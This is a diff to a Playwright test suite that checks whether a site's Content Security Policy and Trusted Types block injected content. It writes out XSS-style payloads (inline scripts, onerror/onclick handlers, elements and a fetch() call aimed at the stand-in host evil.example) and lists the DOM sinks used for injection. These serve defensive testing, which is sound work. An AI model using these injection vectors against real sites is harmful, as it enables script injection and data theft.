@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test';
 import { expect, openHydrated, test } from './fixtures';
 
 declare global {
@@ -6,51 +7,128 @@ declare global {
   }
 }
 
-test('the policy blocks whatever is not of the site', async ({ page, complaints }) => {
-  await openHydrated(page, './');
-  await page.evaluate(attack);
-  const outcome = () =>
-    page.evaluate(() => ({
-      blocked: window.blocked,
-      attacked: document.body.dataset.attacked,
-      display: getComputedStyle(document.body).display,
-    }));
-  await expect.poll(outcome).toEqual({
-    blocked: {
-      'script-src-elem': 'inline',
-      'script-src-attr': 'inline',
-      'style-src-elem': 'inline',
-      'style-src-attr': 'inline',
-      'img-src': 'https://evil.example',
-      'frame-src': 'https://evil.example',
-      'connect-src': 'https://evil.example',
-      'form-action': 'https://evil.example',
-      'base-uri': 'https://evil.example',
-    },
-    attacked: undefined,
-    display: 'block',
-  });
+test.beforeEach(async ({ page }) => {
+  await page.addInitScript(noteBlocked);
+});
+
+test.afterEach(async ({ page, complaints }) => {
+  expect(await page.evaluate(() => document.documentElement.dataset.attacked)).toBeUndefined();
   complaints.splice(0);
 });
 
-/** Notes what is blocked, by directive. Runs in the page, and so stands alone. */
-function attack(): void {
-  window.blocked = {};
-  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-    window.blocked[effectiveDirective] = blockedURI === 'inline' ? blockedURI : new URL(blockedURI).origin;
+test('nothing runs, shows or leads out that was written into the HTML of a page', async ({ page }) => {
+  const attack = 'document.documentElement.dataset.attacked = 1';
+  await inject(
+    page,
+    `<script>${attack}</script><script src="https://evil.example/script.js"></script>
+    <script type="importmap">{"imports":{"/":"https://evil.example/"}}</script>
+    <p id="injected" style="color: rgb(1, 2, 3)" onclick="${attack}">Injected</p>
+    <style>#injected { background: rgb(1, 2, 3) }</style>
+    <link rel="stylesheet" href="https://evil.example/style.css">
+    <img src="https://evil.example/picture.png"><img src="data:," onerror="${attack}">
+    <iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
+    <base href="https://evil.example/">
+    <form action="https://evil.example/"></form>`,
+  );
+  await page.route(/\.js$/, (route) => route.abort()); // hydration would take what was injected away
+  await page.goto('./');
+  const injected = page.locator('#injected');
+  await injected.click();
+  await expect(injected).not.toHaveCSS('color', 'rgb(1, 2, 3)');
+  await expect(injected).not.toHaveCSS('background-color', 'rgb(1, 2, 3)');
+  await page.evaluate(() => document.forms[0]?.submit());
+  await expectBlocked(page, {
+    'script-src-elem': 'https://evil.example inline',
+    'script-src-attr': 'inline',
+    'style-src-attr': 'inline',
+    'style-src-elem': 'https://evil.example inline',
+    'img-src': 'data https://evil.example',
+    'frame-src': 'https://evil.example',
+    'object-src': 'https://evil.example',
+    'base-uri': 'https://evil.example',
+    'form-action': 'https://evil.example',
   });
-  const add = (name: string, properties: object) => {
-    document.body.append(Object.assign(document.createElement(name), properties));
-  };
-  add('script', { textContent: 'document.body.dataset.attacked = ""' });
-  document.body.setAttribute('onclick', 'this.dataset.attacked = ""');
-  document.body.click();
-  add('style', { textContent: 'body { display: none }' });
-  document.body.setAttribute('style', 'display: none');
-  add('img', { src: 'https://evil.example/picture.png' });
-  add('iframe', { src: 'https://evil.example/' });
-  fetch('https://evil.example/').catch(() => undefined);
-  add('form', { action: 'https://evil.example/' });
-  document.querySelector('form')?.submit();
-  add('base', { href: 'https://evil.example/' });
+});
+
+test('a script can write no markup and no code into a hydrated page', async ({ page }) => {
+  await openHydrated(page, './');
+  const attack = '<img src="/" onerror="document.documentElement.dataset.attacked = 1">';
+  const code = 'document.documentElement.dataset.attacked = 1';
+  expect(await page.evaluate(writeEverywhere, { attack, code })).toEqual([]);
+  await expectBlocked(page, {
+    'require-trusted-types-for': 'trusted-types-sink',
+    'trusted-types': 'trusted-types-policy',
+  });
+});
+
+test('a script can ask no other site for anything', async ({ page }) => {
+  await openHydrated(page, './');
+  await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
+  await page.evaluate(() => document.body.setAttribute('style', 'display: none'));
+  await page.evaluate(() => {
+    document.body.append(Object.assign(new Image(), { src: 'https://evil.example/picture.png' }));
+  });
+  await expect(page.locator('body')).toHaveCSS('display', 'block');
+  await expectBlocked(page, {
+    'connect-src': 'https://evil.example',
+    'style-src-attr': 'inline',
+    'img-src': 'https://evil.example',
+  });
+});
+
+/** Writes into the HTML of every page, at its end. */
+async function inject(page: Page, html: string): Promise<void> {
+  const document = await (await page.request.get('./')).text();
+  const body = document.replace('</body>', () => `${html}</body>`);
+  await page.route('./', (route) => route.fulfill({ body, contentType: 'text/html' }));
+}
+
+async function expectBlocked(page: Page, expected: Readonly<Record<string, string>>): Promise<void> {
+  await expect.poll(() => page.evaluate(() => window.blocked)).toEqual(expected);
+}
+
+/** Notes what is blocked, by directive. Runs in the page, and so stands alone, as what follows. */
+function noteBlocked(): void {
+  window.blocked = {};
+  const origin = (blocked: string) => (/^https?:/.test(blocked) ? new URL(blocked).origin : blocked);
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+    const already = window.blocked[effectiveDirective]?.split(' ') ?? [];
+    window.blocked[effectiveDirective] = [...new Set([...already, origin(blockedURI)])].sort().join(' ');
+  });
+}
+
+/** Tries every way to write markup or code into a page; gives those that were let. */
+function writeEverywhere({ attack, code }: { readonly attack: string; readonly code: string }): string[] {
+  const script = document.createElement('script');
+  const ways: readonly (() => unknown)[] = [
+    () => {
+      document.body.innerHTML = attack;
+    },
+    () => {
+      document.body.outerHTML = attack;
+    },
+    () => document.body.insertAdjacentHTML('beforeend', attack),
+    () => document.write(attack),
+    () => new DOMParser().parseFromString(attack, 'text/html'),
+    () => new Range().createContextualFragment(attack),
+    () => {
+      script.text = code;
+    },
+    () => {
+      script.src = '/assets/other.js';
+    },
+    () => document.body.setAttribute('onclick', code),
+    () => setTimeout(code),
+    () => window.trustedTypes?.createPolicy('other', { createHTML: String, createScript: String }),
+  ];
+  return ways.filter(isLet).map(String);
+
+  function isLet(write: () => unknown): boolean {
+    try {
+      write();
+      return true;
+    } catch {
+      return false;
+    }
+  }
 }
